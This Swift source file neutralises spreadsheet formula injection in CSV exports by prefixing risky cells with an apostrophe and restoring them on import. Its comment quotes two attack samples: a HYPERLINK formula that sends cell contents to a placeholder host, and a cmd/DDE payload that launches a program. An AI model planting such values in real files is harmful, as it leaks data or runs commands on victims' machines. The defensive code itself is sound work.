/// Spreadsheet formula injection (OWASP "CSV injection"): a cell starting with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice and
/// Google Sheets, so a name like `=HYPERLINK("http://x"&A1,"click me")` would become a live
/// link and `+cmd|' /C calc'!A0` a command. Every CSV export (`csv`, `kumu`, `neo4j-csv`)
/// writes such a cell with a leading `'`, the spreadsheets' own "this is text" mark, which
/// they hide.
///
/// Plain numbers (`-12.5`, `+3`, `1e6`) are left alone, so a negative amount stays a number.
/// The rule is reversible: ``restored(_:)`` (applied by `import`) removes exactly the `'`
/// that ``neutralised(_:)`` added. A value that itself starts with `'`s before a formula
/// character gets one more, so it too comes back unchanged.
public enum SpreadsheetCell {
    /// The characters that make a spreadsheet read a cell as a formula (OWASP's list), and a
    /// line feed: the CSV reader reads a carriage return inside a field as a line feed, so
    /// marking both keeps the round trip exact.
    public static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r", "\n"]

    /// The cell as written to a CSV file.
    public static func neutralised(_ value: String) -> String {
        needsMark(value) ? "'" + value : value
    }

    /// The value a cell written by ``neutralised(_:)`` stood for.
    public static func restored(_ cell: String) -> String {
        guard cell.unicodeScalars.first == "'", needsMark(String(cell.unicodeScalars.dropFirst())) else { return cell }
        return String(cell.unicodeScalars.dropFirst())
    }

    /// True when `value` (after any leading `'`s) starts with a formula character and is not
    /// a plain number.
    static func needsMark(_ value: String) -> Bool {
        let scalars = value.unicodeScalars.drop { $0 == "'" }
        guard let first = scalars.first, formulaStarts.contains(first) else { return false }
        return !isPlainNumber(value)
    }

    /// `[+-]digits[.digits][e[+-]digits]`.
    static func isPlainNumber(_ value: String) -> Bool {
        var s = Substring(value)
        if s.first == "+" || s.first == "-" { s = s.dropFirst() }
        let mantissaEnd = s.firstIndex { $0 == "e" || $0 == "E" } ?? s.endIndex
        let mantissa = s[..<mantissaEnd]
        let parts = mantissa.split(separator: ".", omittingEmptySubsequences: false)
        guard !mantissa.isEmpty, parts.count <= 2, let whole = parts.first, !whole.isEmpty,
              parts.allSatisfy({ $0.allSatisfy { $0.isASCII && $0.isNumber } }),
              parts.count == 1 || !parts[1].isEmpty else { return false }
        guard mantissaEnd != s.endIndex else { return true }
        var exponent = s[s.index(after: mantissaEnd)...]
        if exponent.first == "+" || exponent.first == "-" { exponent = exponent.dropFirst() }
        return !exponent.isEmpty && exponent.allSatisfy { $0.isASCII && $0.isNumber }
    }
}
